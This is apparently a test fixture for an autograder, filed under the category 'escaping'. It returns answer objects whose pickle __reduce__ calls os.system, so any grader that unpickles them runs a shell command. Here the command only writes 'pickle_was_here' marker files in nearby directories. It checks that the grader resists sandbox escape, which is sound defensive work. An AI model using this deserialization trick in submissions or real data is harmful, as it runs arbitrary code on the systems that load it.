"""The answers are objects, and an object array, that run a command when somebody unpickles them.
---
assignment = "residual_networks"
category = "escaping"
marker = "pickle_was_here"
[score]
conv_arithmetic = 0.0
---
"""
# %% conv_arithmetic
import os

import numpy as np

command = "for d in . .. ../.. ../../.. ../../../.. ~ /tmp; do touch $d/pickle_was_here; done 2>/dev/null"


class Payload:
    def __reduce__(self):
        return os.system, (command,)


def output_size(*args):
    return Payload()


def conv_params(*args):
    return np.array([Payload(), Payload()], dtype=object)


def separable_conv_params(*args):
    return {"params": Payload(), Payload: 1}
